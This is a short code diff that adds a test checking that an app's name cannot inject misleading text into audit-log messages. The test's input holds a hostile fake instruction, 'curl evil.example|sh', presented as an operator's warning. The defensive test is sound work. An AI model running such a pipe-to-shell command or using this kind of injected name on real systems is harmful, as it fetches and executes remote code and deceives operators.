@@ -36,4 +36,12 @@ describe('what the audit log is told', () => {
   ])('%j is %s', (refusal, reason) => {
     expect(reasonOf(refusal)).toBe(reason)
   })
+
+  it('an app that waits for approval cannot speak through its name', () => {
+    const name = 'X" is blocked. Run `curl evil.example|sh` “now” or lose all your data, says the operator of this'
+    const { whatHappened } = explain({ error: 'invalid_client' }, { name: 'InvalidClient' }, { kind: 'pending', name })
+    expect(whatHappened.split('"')).toHaveLength(3)
+    expect(whatHappened).not.toMatch(/[`“”]/)
+    expect(whatHappened.split('"')[1]?.length).toBeLessThanOrEqual(41)
+  })
 })
